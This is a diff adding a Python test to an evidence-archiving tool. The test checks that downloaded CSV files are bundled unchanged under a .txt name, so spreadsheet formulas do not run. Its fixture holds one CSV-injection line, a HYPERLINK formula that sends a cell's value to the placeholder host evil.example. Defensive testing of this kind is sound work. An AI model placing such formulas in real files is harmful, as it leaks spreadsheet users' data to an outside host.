@@ -502,6 +502,24 @@ def test_a_saved_web_page_is_bundled_as_text_with_its_bytes_unchanged(
     assert entry_name(mhtml).endswith("/page.mhtml.txt")
 
 
+def test_a_csv_file_is_bundled_as_text_so_no_formula_runs(
+    report: Report, store: Store, tmp_path: Path
+) -> None:
+    """A downloaded data set may carry formulas a spreadsheet runs when it opens it."""
+    table = b'year,rate\n2023,=HYPERLINK("https://evil.example/?"&A1,"4.1")\n'
+    saved = vaulted(store, tmp_path, "rates.csv", table, "https://stats.example/rates.csv")
+    assert saved.media_type == "text/csv"
+    first = report.claims[0]
+    cited = Evidence(32, first.id, "", "", "", CAPTURED, saved, Quote("2023"))
+    changed = replace(report, claims=(replace(first, evidence=(cited,)), *report.claims[1:]))
+    archive = bundle_of(changed, store)
+    entry = f"files/{saved.sha256}/rates.csv.txt"
+    assert entry in archive.namelist()
+    assert not [n for n in archive.namelist() if n.endswith(".csv")]
+    assert archive.read(entry) == table
+    assert "CSV files end in .txt" in json.loads(archive.read("manifest.json"))["about"]
+
+
 def test_bundle_entry_names_are_safe_whatever_the_original_name(
     report: Report, store: Store, tmp_path: Path
 ) -> None:
